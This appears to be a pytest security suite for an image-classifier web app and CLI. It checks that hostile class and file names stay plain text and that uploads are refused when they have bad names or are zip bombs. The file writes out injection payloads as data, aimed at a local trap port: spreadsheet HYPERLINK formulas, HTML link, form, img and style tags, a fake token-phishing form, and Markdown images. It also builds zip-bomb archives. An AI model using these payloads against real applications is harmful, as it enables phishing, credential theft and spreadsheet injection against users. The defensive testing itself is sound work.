"""Hostile names on the real app (127.0.0.1): class and file names a visitor controls stay text everywhere.

A run whose labels are HTML, Markdown and spreadsheet formulas is served; its model card, Explain caption,
Batch table and CSV, the Hub model card and the predict CLI's CSV must show them as characters, never as
links, forms, images or styles (checked by rendering the Markdown, and in chromium on the live page), and
every CSV cell that starts like a formula must be neutralised. New datasets with such names are refused
by the one class-name validator (zip through the real `train` endpoint, and the CLI), and a zip of blank
BMPs is refused by the whole-archive expansion and decoded-size caps before anything is written.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import torch
from app_server import launched
from conftest import TINY_MODEL, photo
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from markdown_it import MarkdownIt
from PIL import Image
from train_data import jpeg_bytes

from demo import classify_tab
from demo.service import InferenceService, ModelInfo
from demo.train_tab import serve_trained_runs
from demo.training_jobs import TrainingManager
from demo.uploads import UploadLimits, import_zip
from finetune.__main__ import main as train_main
from finetune.checkpoint import load_run, save_run
from finetune.class_names import check_class_names, class_name_problem
from finetune.errors import DatasetError
from finetune.model_card import render_model_card
from finetune.modeling import create_model_and_transforms
from finetune.predict import main as predict_main
from finetune.safe_text import FORMULA_STARTS, csv_safe_cell, escape_markdown

pytestmark = pytest.mark.app

TRAP = "127.0.0.1:9"  # nothing listens on port 9: a request there would be a name turned into markup
FORMULA = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"127.0.0.1:9/f","Open")'
LINK = f'<a href="http://{TRAP}/x">CLICK ME</a>'
FORM = (
    f'<form action="http://{TRAP}/steal"><input name=hf_token placeholder="Paste your HF token">'
    "<button>Verify</button></form>"
)
IMG = f"<img src=http://{TRAP}/t.png>"
STYLE = "<style>*{display:none}</style>"
MD_IMAGE = f"![x](http://{TRAP}/p.png)"
MD_LINK = f"[CLICK](http://{TRAP}/md) www.example.com"
LABELS = [FORMULA, LINK, FORM, IMG, STYLE, MD_IMAGE, MD_LINK]  # in the order the biased head ranks them
HOSTILE_FILES = ["=1+1.png", "+x.png", "-x.png", "@x.png"]
MARKUP_TAGS = {"a", "form", "input", "button", "img", "style", "script", "iframe"}


class _Elements(HTMLParser):
    """Every start tag and attribute value of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [value or "" for _, value in attrs]


def rendered(markdown: str) -> tuple[_Elements, str]:
    """The elements CommonMark (with GFM tables) makes of `markdown`, and its visible text."""
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    elements = _Elements()
    elements.feed(html)
    text = _Text()
    text.feed(html)
    return elements, "".join(text.parts)


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def assert_names_are_text(markdown: str, names: list[str], allowed_tags: set[str] = frozenset()) -> None:
    """No element or URL comes from a name, no GFM autolink can start, and each name reads as typed."""
    elements, text = rendered(markdown)
    assert not (set(elements.tags) & MARKUP_TAGS) - allowed_tags, elements.tags
    assert not [value for value in elements.attributes if TRAP in value], elements.attributes
    outside_code = re.sub(r"`[^`]*`", "", markdown)  # code spans are literal, even on GitHub
    assert "http://" not in outside_code and "www." not in outside_code.lower()  # GFM autolinks these
    for name in names:
        assert name in text, (name, text)


def write_hostile_run(run_dir: Path) -> Path:
    """A tiny random-init run with hostile labels; its head ranks them in `LABELS` order for any image."""
    created = create_model_and_transforms(TINY_MODEL, num_classes=len(LABELS), weights="none", img_size=64)
    head = created.model.get_classifier()
    with torch.no_grad():
        head.weight.mul_(0.01)
        head.bias.copy_(torch.arange(len(LABELS), 0, -1, dtype=torch.float32) * 2.0)
    save_run(run_dir, created.model, LABELS, created.data_config, {"weights_source": "none"})
    return run_dir


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_hostile_run(tmp_path_factory.mktemp("hostile") / "run")


@pytest.fixture(scope="module")
def served(hostile_run: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The app with its Train tab, serving the hostile run; yields its URL and the data folder."""
    data_dir = tmp_path_factory.mktemp("studio") / "studio-data"
    service = InferenceService.from_checkpoint(hostile_run)
    manager = TrainingManager(data_dir, allow_test_models=True, train_overrides={"img_size": 64})
    serve_trained_runs(manager, service)
    try:
        with launched(service, trainer=manager) as demo:
            yield demo.local_url, data_dir
    finally:
        manager.close()
        service.close()


@pytest.fixture(scope="module")
def client(served: tuple[str, Path]) -> Client:
    return Client(served[0], verbose=False)


def photo_file(folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    photo("chelsea").resize((96, 64)).save(path, format="PNG")
    return path


def read_csv_cells(text: str) -> list[list[str]]:
    """The CSV as a spreadsheet-style reader sees it: every cell of every row."""
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (cell, row)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_escape_markdown_keeps_every_hostile_name_as_text() -> None:
    assert_names_are_text(", ".join(escape_markdown(label) for label in LABELS), LABELS)
    assert escape_markdown("line one\nline two") == "line one line two"  # no new paragraph or heading
    assert csv_safe_cell(FORMULA) == "'" + FORMULA and csv_safe_cell(-0.25) == -0.25
    assert [csv_safe_cell(value) for value in ("-0.5", "\tx", "\rx", "cat")] == [
        "-0.5",
        "'\tx",
        "'\rx",
        "cat",
    ]


def test_classify_model_card_and_explain_caption_show_names_as_text(client: Client, tmp_path: Path) -> None:
    card = classify_tab.model_card(
        ModelInfo(
            name=IMG,
            architecture=TINY_MODEL,
            labels=LABELS,
            weights_source=LINK,
            source="run",
            metrics={STYLE: MD_IMAGE},
        )
    )
    assert_names_are_text(card, LABELS + [IMG, STYLE, MD_IMAGE])
    image = photo_file(tmp_path, "cat.png")
    for target in (MD_IMAGE, FORM):
        _, _, caption = client.predict(handle_file(image), target, 0.5, api_name="/explain")
        assert_names_are_text(caption, [target, *LABELS[:5]])
        assert caption.startswith("Explaining **" + escape_markdown(target) + "**")


def test_batch_table_and_csv_keep_names_as_text_and_neutralise_formulas(
    client: Client, tmp_path: Path
) -> None:
    files = [photo_file(tmp_path, name) for name in HOSTILE_FILES]
    table, csv_path = client.predict([handle_file(path) for path in files], api_name="/batch")
    shown = {row[0]: row for row in table["data"]}
    assert set(shown) == set(HOSTILE_FILES)  # the table shows names as they are (text cells)
    assert {row[1] for row in table["data"]} == {FORMULA}
    assert table["headers"] == ["file", "top-1", "confidence", "top-k", "error", "ood_score", "unknown"]
    rows = read_csv_cells(Path(csv_path).read_text(encoding="utf-8"))
    assert rows[0] == ["file", "top-1", "confidence", "top-k", "error", "ood_score", "unknown"]
    assert_no_formula_cells(rows)
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in HOSTILE_FILES)
    assert {row[1] for row in rows[1:]} == {"'" + FORMULA}
    assert all(0.0 < float(row[2]) <= 1.0 for row in rows[1:])  # confidence is still a number


def test_predict_cli_csv_neutralises_formula_cells(
    hostile_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in HOSTILE_FILES:
        photo_file(tmp_path / "in", name)
    monkeypatch.chdir(tmp_path / "in")  # relative paths: the path column starts with the file name
    out = tmp_path / "predictions.csv"
    argv = ["--checkpoint", str(hostile_run), "--out", str(out), "--quiet", "--", *HOSTILE_FILES]
    assert predict_main(argv) == 0
    rows = read_csv_cells(out.read_text(encoding="utf-8"))
    assert rows[0][:4] == ["path", "label", "prob", "error"]
    assert_no_formula_cells(rows)
    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE_FILES]
    assert {row[1] for row in rows[1:]} == {"'" + FORMULA}
    assert all(float(row[2]) > 0 for row in rows[1:])


def test_hub_model_card_escapes_hostile_labels(hostile_run: Path) -> None:
    body = render_model_card(hostile_run).split("\n---\n", 1)[1]
    outside_code = re.sub(r"`[^`]*`", "", body)
    for raw in ("<a ", "<form", "<input", "<img", "<style", "![x]"):
        assert raw not in outside_code
    # the card's own markup is a link to timm; no element or URL comes from a label
    assert_names_are_text(body.replace("https://github.com", "https\\://github.com"), LABELS, {"a"})


def zip_of(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize(
    ("names", "message"),
    [
        ((IMG.replace("/", "").replace(":", ""), "dog"), "must start with a letter"),
        (('Open =HYPERLINK("x")', "dog"), "contains"),
        (("Cat", "cat"), "differ only in case"),
        (("cat", "cat "), "starts or ends with a space"),
        (("c\u0430t", "dog"), "mixes letters of different scripts"),
        (("x" * 200, "dog"), "200 characters"),
    ],
    ids=["html", "formula", "case", "space", "cyrillic", "long"],
)
def test_train_endpoint_refuses_bad_class_names_in_a_zip(
    client: Client, served: tuple[str, Path], tmp_path: Path, names: tuple[str, str], message: str
) -> None:
    entries = {f"{name}/{n}.jpg": jpeg_bytes() for name in names for n in range(2)}
    zip_path = zip_of(tmp_path / "upload.zip", entries)
    with pytest.raises(AppError, match=f"is refused|{message}") as refused:
        client.predict(handle_file(zip_path), TINY_MODEL, "auto", 1, 5, api_name="/train")
    assert message in str(refused.value)
    assert "<" not in str(refused.value)  # the error modal shows HTML: names in it arrive escaped
    assert not list(served[1].glob("datasets/*/*"))


def test_cli_dataset_scan_refuses_bad_class_names(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    for names, message in [
        (("Cat", "cat"), "differ only in case"),
        (("c\u0430t", "dog"), "mixes letters"),
        (("x" * 200, "dog"), "200 characters"),
        (("<img src=x>", "dog"), "must start with a letter"),
    ]:
        data = tmp_path / f"data{len(message)}"
        for name in names:
            (data / name).mkdir(parents=True)
            (data / name / "1.jpg").write_bytes(jpeg_bytes())
        assert train_main([str(data), "--out", str(tmp_path / "run"), "--quiet"]) == 2
        assert message in capsys.readouterr().err
    assert not (tmp_path / "run").exists()
    with pytest.raises(DatasetError, match="starts or ends with a space"):
        check_class_names(["cat", "cat "])


def blank_bmp_zip(path: Path, count: int, size: int = 256) -> Path:
    buffer = io.BytesIO()
    Image.new("RGB", (size, size)).save(buffer, format="BMP")
    entries = {f"{('black', 'white')[n % 2]}/{n}.bmp": buffer.getvalue() for n in range(count)}
    return zip_of(path, entries)


def test_zip_of_blank_bmps_is_refused_by_the_whole_archive_ratio(
    client: Client, served: tuple[str, Path], tmp_path: Path
) -> None:
    zip_path = blank_bmp_zip(tmp_path / "blank.zip", count=200)  # each entry is below the per-file checks
    expanded = sum(info.file_size for info in zipfile.ZipFile(zip_path).infolist())
    print(f"blank BMP zip: {zip_path.stat().st_size / 1e3:.0f} kB expands to {expanded / 1e6:.1f} MB")
    with pytest.raises(AppError, match=r"expands [\d,]+x as a whole .*zip bomb"):
        client.predict(handle_file(zip_path), TINY_MODEL, "auto", 1, 5, api_name="/train")
    assert not list(served[1].glob("datasets/*/*"))


def test_decoded_size_cap_refuses_before_writing(tmp_path: Path) -> None:
    zip_path = blank_bmp_zip(tmp_path / "blank.zip", count=40)
    limits = UploadLimits(max_archive_ratio=1e9, max_decoded_bytes=20 * 256 * 256 * 3)
    with pytest.raises(DatasetError, match=r"decode to more than .* \(reached at image 21\)"):
        import_zip(zip_path, tmp_path / "datasets", limits)
    assert not list((tmp_path / "datasets").glob("*"))
    big_png = io.BytesIO()
    Image.new("L", (6000, 6000)).save(big_png, format="PNG")  # 36 MB of pixels in ~40 kB
    zip_path = zip_of(
        tmp_path / "png.zip", {f"{c}/{n}.png": big_png.getvalue() for c in ("ab", "cd") for n in range(2)}
    )
    with pytest.raises(DatasetError, match="decode to more than"):
        import_zip(zip_path, tmp_path / "datasets", UploadLimits(max_decoded_bytes=100 * 1024**2))
    assert not list((tmp_path / "datasets").glob("*"))


PAGE_CHECKS = """() => ({
    links: document.querySelectorAll('a[href*="127.0.0.1:9"]').length,
    forms: document.querySelectorAll('form[action*="127.0.0.1:9"], input[name=hf_token]').length,
    buttons: [...document.querySelectorAll('button')].filter(b => b.textContent.trim() === 'Verify').length,
    images: [...document.querySelectorAll('img')]
        .filter(i => (i.getAttribute('src') || '').includes(':9')).length,
    styles: [...document.querySelectorAll('style')]
        .filter(s => s.textContent.includes('display:none}')).length,
    hidden: getComputedStyle(document.body).display === 'none',
})"""


@pytest.mark.browser
def test_in_chromium_no_element_is_made_from_a_name(served: tuple[str, Path], tmp_path: Path) -> None:
    """Classify card, Batch table, Explain caption and the Train error modal, in a real page."""
    from test_browser import CHROMIUM, CHROMIUM_ARGS, _missing

    try:
        from playwright.sync_api import expect, sync_playwright
    except ImportError:
        _missing("the playwright package is not installed (pip install -r requirements-dev.txt)")
    if not CHROMIUM.exists():
        _missing(f"chromium is not at {CHROMIUM}")
    image = photo_file(tmp_path, "=1+1.png")
    bad_name = "<img src=http:&#x2F;&#x2F;127.0.0.1:9&#x2F;z.png>"  # no '/', so it stays one folder name
    zip_path = zip_of(
        tmp_path / "bad.zip", {f"{n}/{i}.jpg": jpeg_bytes() for n in (bad_name, "dog") for i in (1, 2)}
    )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            expect.set_options(timeout=60_000)
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            page.set_default_timeout(60_000)  # a shared 2-core machine can be slow to load the page
            trapped: list[str] = []
            page.on("request", lambda request: trapped.append(request.url) if TRAP in request.url else None)
            page.goto(served[0])
            card = page.locator("#classify-model-card")
            for label in (LINK, FORM, IMG, STYLE, MD_IMAGE):
                expect(card).to_contain_text(label)  # the characters, as typed

            page.get_by_role("tab", name="Batch").click()
            page.locator("#batch-files input[type=file]").set_input_files(image)
            page.locator("#batch-button").click()
            row = page.locator("#batch-table").get_by_role("row").nth(1)
            expect(row).to_contain_text(FORMULA)
            expect(row).to_contain_text(LINK)
            expect(row).to_contain_text("=1+1.png")

            page.get_by_role("tab", name="Explain").click()
            page.locator("#explain-image input[type=file]").set_input_files(image)
            page.locator("#explain-button").click()
            caption = page.locator("#explain-caption")
            expect(caption).to_contain_text(FORM)
            expect(caption).to_contain_text(IMG)

            page.get_by_role("tab", name="Train").click()
            page.locator("#train-zip input[type=file]").set_input_files(zip_path)
            # the upload finished: its row names the file (Gradio may put a space between stem and suffix)
            expect(page.locator("#train-zip")).to_contain_text(re.compile(r"bad\s*\.zip"))
            page.locator("#train-start").click()
            toast = page.locator(".toast-body")
            expect(toast).to_contain_text("is refused")
            expect(toast).to_contain_text("<img src=http:")

            found = page.evaluate(PAGE_CHECKS)
            page.get_by_role("tab", name="Classify").click()
            expect(card).to_be_visible()  # a <style> name did not blank the page
        finally:
            browser.close()
    assert found == {"links": 0, "forms": 0, "buttons": 0, "images": 0, "styles": 0, "hidden": False}
    assert trapped == []


def test_runs_with_names_the_validator_refuses_still_load(hostile_run: Path) -> None:
    """Only new datasets are checked: a run trained before the rules keeps loading and serving."""
    assert all(class_name_problem(label) for label in LABELS)
    assert load_run(hostile_run).labels == LABELS
